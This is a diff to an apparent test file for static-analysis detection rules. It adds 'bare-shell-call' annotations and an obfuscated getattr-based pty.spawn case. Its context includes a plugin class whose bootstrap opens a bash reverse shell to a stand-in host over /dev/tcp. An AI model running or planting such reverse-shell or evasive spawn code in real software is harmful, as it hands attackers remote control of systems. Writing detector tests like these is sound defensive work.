@@ -83,7 +83,7 @@ os.spawnv(os.P_WAIT, "/bin/ls", ["ls"])
 # ruleid: os-spawn
 os.posix_spawn("/bin/ls", ["ls"], {})
 
-# ruleid: pty-spawn
+# ruleid: pty-spawn, bare-shell-call
 pty.spawn("/bin/bash")
 
 
@@ -117,7 +117,7 @@ fd = os.memfd_create("payload")
 
 # ruleid: third-party-process-runner
 sh.ls("-l")
-# ruleid: third-party-process-runner
+# ruleid: third-party-process-runner, bare-shell-call
 child = pexpect.spawn("/bin/bash")
 
 # ruleid: process-signal, process-signal-broadcast
@@ -590,3 +590,10 @@ class _PluginBase:
         subprocess.Popen(cls.bootstrap)
 class _Metrics(_PluginBase):
     bootstrap = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.61/8080 0>&1"]
+# a bare shell handed to a spawning function reached through getattr
+from itertools import starmap
+spawn, = starmap(getattr, [(__import__("pty"), "spawn")])
+# ruleid: bare-shell-call
+spawn("/bin/sh")
+# ok: bare-shell-call
+present = os.path.exists("/bin/bash")
